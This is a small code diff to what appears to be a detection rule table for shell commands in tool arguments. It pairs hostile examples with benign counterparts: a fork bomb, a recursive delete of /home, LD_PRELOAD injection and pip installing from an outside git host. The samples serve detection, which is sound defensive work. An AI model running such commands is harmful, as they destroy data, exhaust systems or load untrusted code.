@@ -84,6 +84,8 @@ func commandRules() []Rule {
 		{command.ProcessKill, code, "kill -9 4711", "ps aux"},
 		{command.ForkBomb, code, ":(){ :|:& };:", "f() { g | h; }; f"},
 		{command.CodeDelete, code, "python3 -c 'import shutil; shutil.rmtree(\"/home\")'", "python3 -c 'print(1)'"},
+		{command.LibraryPreload, code, "LD_PRELOAD=./x.so make", "PRELOAD=1 make"},
+		{command.PackageSource, schema.ExternalSink, "pip install git+https://host.example/x", "pip install requests"},
 		{command.CommandComputed, code, "$(cat tool.txt) --all", "$(which python3) a.py"},
 	} {
 		out = append(out, Rule{Name: string(e.rule), Code: e.code, Span: schema.SpanToolArgument, Tags: tags, Hit: run(e.hit), Miss: run(e.miss)})
